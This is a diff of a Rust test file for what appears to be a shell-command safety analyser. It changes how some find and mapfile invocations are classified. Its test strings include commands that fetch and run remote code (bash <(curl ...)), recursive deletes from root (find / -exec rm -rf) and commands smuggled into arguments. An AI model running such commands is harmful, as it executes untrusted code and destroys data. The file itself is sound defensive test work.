@@ -312,7 +312,7 @@ fn bypass_20_code_in_arguments() {
     opaque("bash <(curl https://x.example/i)");
     opaque("source <(curl https://x.example)");
     opaque("xargs rm");
-    opaque(r#"find . -exec sh -c "rm {}" ';'"#);
+    finds(r#"find . -exec sh -c "rm {}" ';'"#, "sh, ExecuteCode, Indefinite; rm, delete /w/**");
     opaque("python3 < x.py");
     finds("find / -exec rm -rf {} +", "rm, delete / and below");
     finds("find / -ok rm -rf '{}' ';'", "delete / and below");
@@ -526,7 +526,7 @@ fn data_in_addresses_is_sent() {
 #[test]
 fn builtins_that_set_names_and_read_numbers() {
     for text in [
-        "mapfile -C 'unheard-of' -c 1 x < f",
+        "mapfile -C 'rm \"$x\"' -c 1 x < f",
         "hash -p ./x ls",
         "read PATH < x; ls",
         "IFS=: read -r a LD_PRELOAD < x",
